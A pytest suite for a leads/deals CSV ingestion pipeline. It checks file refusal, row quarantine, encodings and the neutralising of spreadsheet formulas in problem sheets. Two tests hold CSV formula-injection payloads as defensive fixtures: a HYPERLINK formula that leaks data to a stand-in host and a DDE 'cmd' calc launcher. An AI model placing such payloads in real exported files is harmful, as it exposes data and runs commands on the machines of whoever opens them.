"""Issue 4: a battery of bad export files. Each case says what the message must
name, and checks that what was loaded before is unchanged.

Row-level problems quarantine the row (quarantine.<source>) and load the rest,
unless more than max_rejected_share of the file's rows fail; file-level problems
refuse the whole file. Through the real job, a refused file fails its asset and
the published warehouse keeps its bytes.
"""

from __future__ import annotations

import codecs
import csv
import shutil
from pathlib import Path

import duckdb
import pytest

from assets.ingest.load import ingest_source
from schemas import SOURCES
from schemas.profiles import load_profiles
from tests.conftest import CONFIG_DIR, copy_run, query, refused_text, run_funnel_job

TZ = "Asia/Tokyo"
HEADER = "lead_id,created_at,lead_source,campaign\n"


def lead_rows(first: int, n: int, day: str = "2026-07-03") -> str:
    return "".join(f"L{i},{day} 10:00,Webinar,c{i % 3}\n" for i in range(first, first + n))


def put(inbox: Path, source: str, name: str, content: str | bytes, encoding: str = "utf-8") -> Path:
    path = inbox / source / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
    return path


def ingest(con, inbox: Path, source: str = "leads", problems_dir: Path | None = None, share: float = 0.05):
    return ingest_source(con, SOURCES[source], inbox, load_profiles(CONFIG_DIR), TZ, "run-2",
                         max_rejected_share=share, problems_dir=problems_dir)


def snapshot(con) -> list[tuple]:
    return con.execute("SELECT _load_id, _source_file, _source_row, lead_id, created_at, lead_source, campaign "
                       "FROM raw.leads ORDER BY ALL").fetchall()


@pytest.fixture
def loaded(tmp_path):
    """An in-memory working database holding one good leads file (L1..L40)."""
    inbox = tmp_path / "inbox"
    put(inbox, "leads", "good.csv", HEADER + lead_rows(1, 40))
    con = duckdb.connect()
    first = ingest(con, inbox)
    assert [o.rows for o in first.loaded] == [40]
    yield con, inbox, snapshot(con)
    con.close()


# (file bytes, words the refusal must contain)
REFUSED = {
    "empty": (b"", "is empty (0 bytes)"),
    "header_only": (HEADER.encode(), "has a header but no data rows"),
    "unknown_encoding": (HEADER.encode() + b"L90,2026-07-03,\x80\xff\xfe\x81\x00x,c\n", "binary"),
    "latin1_not_cp932": (HEADER.encode() + "L90,2026-07-03,Séminaire ½ ÿ,c\n".encode("latin-1"),
                         "unknown encoding: neither UTF-8, UTF-16 with BOM nor CP932"),
    "binary_png": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary"),
    "xlsx_renamed": (b"PK\x03\x04\x14\x00\x06\x00" + bytes(200), "Excel workbook (.xlsx) renamed"),
    "missing_required_header": ("lead_id,lead_source\nL90,Webinar\n".encode(), "created_at"),
    "truncated_mid_row": ((HEADER + lead_rows(90, 3) + "L93,2026-07").encode(), "truncated or malformed row"),
    "truncated_in_quotes": ((HEADER + lead_rows(90, 3) + 'L93,2026-07-03,Webinar,"unfinished').encode(),
                            "has a quoted value opened on line 5 that never closes"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_a_file_level_failure_refuses_the_file_and_leaves_earlier_loads_as_they_were(loaded, case):
    con, inbox, before = loaded
    content, words = REFUSED[case]
    put(inbox, "leads", "bad.csv", content)

    result = ingest(con, inbox)

    assert result.loaded == [] and len(result.rejected) == 1
    assert result.rejected[0].message.startswith("leads/bad.csv: ")
    assert words in result.rejected[0].message
    assert snapshot(con) == before
    assert con.execute("SELECT status, rows_loaded FROM ops.load_log WHERE file_name = 'leads/bad.csv'").fetchall() \
        == [("rejected", 0)]
    assert con.execute("SELECT count(*) FROM quarantine.leads").fetchone()[0] == 0


# (rows of a 50-row file that are bad, the bad line, (row, column, check), words)
QUARANTINED = {
    "negative_amount": None,  # deals: see its own test below
    "future_date": ("L91,2031-01-01 10:00,Webinar,c\n", (2, "created_at", "not_in_future"), "lies in the future"),
    "before_2000": ("L91,1999-12-31 10:00,Webinar,c\n", (2, "created_at", "not_before_2000"), "is before 2000-01-01"),
    "unparseable_date": ("L91,2026-02-30 10:00,Webinar,c\n", (2, "created_at", "parseable:created_at"),
                         "is not a date/time"),
    "ten_mb_field": ("L91,2026-07-03 10:00,Webinar," + "x" * (10 << 20) + "\n", (2, "campaign", "max_length"),
                     "is longer than 32,767 characters"),
}


@pytest.mark.parametrize("case", [c for c in QUARANTINED if QUARANTINED[c]])
def test_a_bad_row_is_quarantined_and_the_rest_of_the_file_loads(loaded, case, tmp_path):
    con, inbox, before = loaded
    line, (row, column, check), words = QUARANTINED[case]
    put(inbox, "leads", "next.csv", HEADER + lead_rows(90, 1) + line + lead_rows(92, 48))

    result = ingest(con, inbox, problems_dir=tmp_path / "problems")

    outcome = result.loaded[0]
    assert (outcome.rows, outcome.quarantined) == (49, 1)
    assert f"leads/next.csv: row {row}, column {column}: {words}" in outcome.message
    assert "1 of 50 rows quarantined (quarantine.leads)" in outcome.message
    q = con.execute("SELECT file_name, row_number, record_key, column_name, check_name, length(raw_value) "
                    "FROM quarantine.leads").fetchall()
    assert q == [("leads/next.csv", row, "L91", column, check, min(len(line.split(",")[1 if column == "created_at"
                                                                                          else 3].strip()), 200))]
    # earlier rows untouched, the good rows of the new file added, the bad one not
    after = snapshot(con)
    assert [r for r in after if r[1] == "leads/good.csv"] == before
    assert sorted(r[3] for r in after if r[1] == "leads/next.csv") == sorted(
        [f"L{i}" for i in [90, *range(92, 140)]])
    assert con.execute("SELECT rows_read, rows_loaded, rows_quarantined, status FROM ops.load_log "
                       "WHERE file_name = 'leads/next.csv'").fetchall() == [(50, 49, 1, "loaded")]


def test_duplicate_keys_quarantine_every_copy(loaded):
    con, inbox, _ = loaded
    put(inbox, "leads", "next.csv", HEADER + lead_rows(90, 30) + "L95,2026-07-04 10:00,Event,x\n" + lead_rows(120, 19))

    outcome = ingest(con, inbox).loaded[0]

    assert (outcome.rows, outcome.quarantined) == (48, 2)
    assert con.execute("SELECT row_number, record_key, check_name FROM quarantine.leads ORDER BY 1").fetchall() == [
        (6, "L95", "field_uniqueness"), (31, "L95", "field_uniqueness")]
    assert "duplicate key lead_id" in outcome.message
    assert con.execute("SELECT count(*) FROM raw.leads WHERE lead_id = 'L95'").fetchone()[0] == 0


def test_negative_deal_amount_is_quarantined(tmp_path):
    inbox = tmp_path / "inbox"
    rows = "".join(f"D{i},2026-07-01,受注,{1000 * i}\n" for i in range(1, 40))
    put(inbox, "deals", "deals.csv", "deal_id,created_at,stage,amount\n" + rows + "D99,2026-07-01,受注,\"-1,000\"\n")
    con = duckdb.connect()

    outcome = ingest(con, inbox, "deals").loaded[0]

    assert (outcome.rows, outcome.quarantined) == (39, 1)
    assert "deals/deals.csv: row 40, column amount: is negative (value '-1,000')" in outcome.message
    assert con.execute("SELECT sum(amount) FROM raw.deals").fetchone()[0] == 1000 * sum(range(1, 40))


def test_more_bad_rows_than_the_share_allows_refuse_the_whole_file(loaded):
    con, inbox, before = loaded
    bad = "".join(f"L{i},someday,Webinar,c\n" for i in range(200, 206))  # 6 of 100 = 6% > 5%
    put(inbox, "leads", "next.csv", HEADER + lead_rows(90, 94) + bad)

    result = ingest(con, inbox)

    assert result.loaded == []
    message = result.rejected[0].message
    assert message.splitlines()[0] == (
        "leads/next.csv: 6 of its 100 rows (6.0%) fail a check, more than the 5% allowed for leads "
        "(max_rejected_share in config/sources.yaml); the whole file was refused and nothing of it was loaded")
    assert "leads/next.csv: row 95, column created_at: is not a date/time (accepted: " in message
    assert message.splitlines()[1].endswith("(value 'someday')")
    assert snapshot(con) == before
    assert con.execute("SELECT count(*) FROM quarantine.leads").fetchone()[0] == 0
    assert con.execute("SELECT count(*) FROM ops.load_errors WHERE file_name = 'leads/next.csv'").fetchone()[0] == 6

    # the same file under a looser limit loads its 94 good rows
    shutil.rmtree(inbox / "leads")
    put(inbox, "leads", "next.csv", HEADER + lead_rows(90, 94) + bad)
    assert ingest(con, inbox, share=0.10).loaded[0].quarantined == 6


def test_formula_values_are_stored_as_text_but_neutralised_in_the_problems_csv(loaded, tmp_path):
    con, inbox, _ = loaded
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd"]
    body = "".join(f'L{90 + i},2026-07-03 10:00,"{v.replace(chr(34), chr(34) * 2)}",c\n' for i, v in enumerate(evil))
    bad = 'L99,not a date,"=1+1",c\n'
    put(inbox, "leads", "next.csv", HEADER + body + lead_rows(100, 30) + bad)

    outcome = ingest(con, inbox, problems_dir=tmp_path / "problems").loaded[0]

    # in the database a formula is only text: stored exactly as exported
    stored = dict(con.execute("SELECT lead_id, lead_source FROM raw.leads WHERE lead_id IN ('L90','L91','L92','L93')")
                  .fetchall())
    assert [stored[f"L{90 + i}"] for i in range(4)] == evil
    assert outcome.quarantined == 1
    # the CSV for ops to open in a spreadsheet never starts a cell with = + - @
    path = tmp_path / "problems" / "leads" / "leads__next.csv.problems.csv"
    with path.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "not a date" in cells and "'=" not in cells
    assert not any(c[:1] in "=+-@" and c for c in cells)


def test_formula_cells_in_the_problems_csv_get_an_apostrophe(loaded, tmp_path):
    con, inbox, _ = loaded
    put(inbox, "leads", "next.csv", HEADER + lead_rows(100, 30) + 'L99,=cmd|\' /C calc\'!A0,Webinar,c\n')

    ingest(con, inbox, problems_dir=tmp_path / "problems")

    path = tmp_path / "problems" / "leads" / "leads__next.csv.problems.csv"
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["row_number"], r["column_name"], r["raw_value"]) for r in rows] == [
        ("31", "created_at", "'=cmd|' /C calc'!A0")]


def test_mixed_encodings_in_one_inbox_all_load(tmp_path):
    inbox = tmp_path / "inbox"
    text = "lead_id,created_at,lead_source\n{p}1,2026-07-03,展示会\n{p}2,2026-07-03,ウェビナー\n"
    put(inbox, "leads", "a_utf8.csv", text.format(p="U"), "utf-8")
    put(inbox, "leads", "b_bom.csv", codecs.BOM_UTF8 + text.format(p="B").encode("utf-8"))
    put(inbox, "leads", "c_sjis.csv", text.format(p="S"), "cp932")
    put(inbox, "leads", "d_utf16.txt", codecs.BOM_UTF16_LE + text.format(p="W").replace(",", "\t").encode("utf-16-le"))
    con = duckdb.connect()

    result = ingest(con, inbox)

    assert result.rejected == []
    assert con.execute("SELECT _source_file, encoding FROM raw.leads JOIN ops.load_log ON _load_id = load_id "
                       "GROUP BY ALL ORDER BY 1").fetchall() == [
        ("leads/a_utf8.csv", "utf-8"), ("leads/b_bom.csv", "utf-8-sig"), ("leads/c_sjis.csv", "cp932"),
        ("leads/d_utf16.txt", "utf-16")]
    assert con.execute("SELECT lead_source, count(*) FROM raw.leads GROUP BY 1 ORDER BY 1").fetchall() == [
        ("ウェビナー", 4), ("展示会", 4)]


# ---------------------------------------------------------------- through the real job


@pytest.fixture(scope="module")
def published_once(tmp_path_factory) -> Path:
    """One real run on a good leads file (L1..L40) and one deal: its inbox and warehouse folder."""
    root = tmp_path_factory.mktemp("published")
    inbox = root / "inbox"
    put(inbox, "leads", "good.csv", HEADER + lead_rows(1, 40))
    put(inbox, "deals", "deals.csv", "deal_id,created_at,stage,lead_id,amount\nD1,2026-07-10,受注,L1,500000\n")
    assert run_funnel_job(inbox, root / "wh" / "funnel.duckdb").success
    return root


@pytest.fixture
def published(published_once, tmp_path):
    """Each test's own copy of that run's inbox and warehouse folder (the published file, the working
    database and all load state), as the run left them: the tests add files and run again."""
    root = copy_run(published_once, tmp_path / "published")
    return root / "inbox", root / "wh" / "funnel.duckdb"


def test_a_refused_file_fails_its_source_s_check_and_the_published_marts_keep_their_data(published):
    inbox, wh = published
    before = query(wh, "SELECT * FROM marts.lead_cohort_funnel ORDER BY ALL")
    put(inbox, "leads", "zz_broken.csv", HEADER + lead_rows(90, 3) + "L93,2026-07")

    result = run_funnel_job(inbox, wh)

    assert result.success and not [e for e in result.all_events if e.event_type_value == "STEP_FAILURE"]
    [check] = [c for c in result.get_asset_check_evaluations() if c.check_name == "leads_no_file_refused"]
    assert not check.passed and check.severity.value == "ERROR" and not check.blocking
    description = refused_text(result)
    assert "1 leads file(s) refused" in description and "leads/zz_broken.csv: has line 5 with 2 field(s)" in description
    assert "what reads leads was built from the leads data loaded before" in description
    assert "problems, one per row, are in" not in description  # a cut row is no row problem: no sheet
    assert query(wh, "SELECT * FROM marts.lead_cohort_funnel ORDER BY ALL") == before


def test_a_refused_file_with_bad_rows_points_ops_to_its_problem_sheet(published):
    inbox, wh = published
    put(inbox, "leads", "zz_bad.csv", HEADER + "".join(f"L{i},someday,Webinar,c\n" for i in range(90, 95)))

    result = run_funnel_job(inbox, wh)

    description = refused_text(result)
    sheets = wh.parent / "funnel.problems" / "leads"
    assert description.endswith(f"Each refused file's problems, one per row, are in {sheets}/.")
    with (sheets / "leads__zz_bad.csv.problems.csv").open(encoding="utf-8-sig") as f:
        assert len(f.read().splitlines()) == 1 + 5


def test_quarantined_rows_warn_in_the_run_and_are_published(published):
    inbox, wh = published
    put(inbox, "leads", "next.csv", HEADER + lead_rows(90, 30) + "L999,2031-01-01,Webinar,c\n")

    result = run_funnel_job(inbox, wh)

    assert result.success
    check = next(e for e in result.get_asset_check_evaluations() if e.check_name == "leads_no_rows_quarantined")
    assert not check.passed and check.severity.value == "WARN"
    assert check.metadata["rows_quarantined"].value == 1
    assert "not_in_future" in check.metadata["problems"].value
    assert query(wh, "SELECT file_name, row_number, record_key, check_name FROM quarantine.leads") == [
        ("leads/next.csv", 31, "L999", "not_in_future")]
    assert query(wh, "SELECT sum(leads) FROM marts.channel_funnel") == [(70,)]


def test_the_share_limit_is_configured_per_source(published, tmp_path):
    inbox, wh = published
    config = tmp_path / "config"
    shutil.copytree(CONFIG_DIR, config)
    (config / "sources.yaml").write_text("sources:\n  leads:\n    max_rejected_share: 0.5\n", encoding="utf-8")
    put(inbox, "leads", "next.csv", HEADER + lead_rows(90, 3) + "L99,2031-01-01,Webinar,c\n")  # 25% bad

    assert "leads/next.csv: 1 of its 4 rows (25.0%) fail a check" in refused_text(run_funnel_job(inbox, wh))  # 5%
    result = run_funnel_job(inbox, wh, config)  # 50% for leads: quarantined
    assert result.success and refused_text(result) == ""
    assert query(wh, "SELECT sum(leads) FROM marts.channel_funnel") == [(43,)]


def test_the_sample_generator_neutralises_formula_cells_too():
    import pandas as pd

    from pipelines.dev.generate import neutralise_formulas

    df = pd.DataFrame({"campaign": ["=1+1", "spring", None, "@x", "-10%"], "cost": [1, -2, 3, 4, 5]})
    out = neutralise_formulas(df)
    assert out["campaign"].tolist() == ["'=1+1", "spring", None, "'@x", "'-10%"]
    assert out["cost"].tolist() == [1, -2, 3, 4, 5]  # numbers are numbers, not formulas
    assert df["campaign"].tolist()[0] == "=1+1"  # the caller's frame is left alone


def test_a_file_checked_in_chunks_gives_exactly_the_problems_of_one_pass(tmp_path, monkeypatch):
    """Validation runs chunk by chunk (bounded memory); a key repeated in two chunks, a bad value and
    the rows kept must be what one pass over the whole file gives, and progress reports each chunk."""
    import assets.ingest.load as ingest_module

    rows = lead_rows(1, 40).splitlines(keepends=True)
    rows[1] = "L30,2026-07-03 10:00,Webinar,c0\n"  # row 2 repeats L30 (row 30), far apart
    rows[6] = "L7,2026-13-45,Webinar,c1\n"  # row 7: not a date
    put(tmp_path / "inbox", "leads", "big.csv", HEADER + "".join(rows))

    def load(chunk: int | None):
        if chunk:
            monkeypatch.setattr(ingest_module, "VALIDATE_CHUNK_ROWS", chunk)
        con, seen = duckdb.connect(), []
        result = ingest_source(con, SOURCES["leads"], tmp_path / "inbox", load_profiles(CONFIG_DIR), TZ, "r",
                               max_rejected_share=0.1, log=type("L", (), {"info": lambda self, m: seen.append(m)})())
        quarantined = con.execute("SELECT row_number, record_key, column_name, check_name, raw_value, problem "
                                  "FROM quarantine.leads ORDER BY ALL").fetchall()
        return [o.rows for o in result.loaded], quarantined, snapshot(con), seen

    whole = load(None)
    chunked = load(7)
    assert whole[0] == chunked[0] == [37]  # 40 rows, 3 quarantined: both copies of L30 and row 7
    assert chunked[1] == whole[1]
    assert {(r[0], r[3]) for r in whole[1]} == {(2, "field_uniqueness"), (30, "field_uniqueness"),
                                                 (7, "parseable:created_at")}
    assert chunked[2] == whole[2]
    assert [m.split(": ", 1)[1] for m in chunked[3]] == [
        "7 of 40 rows checked", "14 of 40 rows checked", "21 of 40 rows checked", "28 of 40 rows checked",
        "35 of 40 rows checked", "40 of 40 rows checked", "loaded, 37 rows, 3 quarantined\n" + chunked[3][-1].split("\n", 1)[1]]
    assert not any("rows checked" in m for m in whole[3])  # one chunk: nothing to report but the file
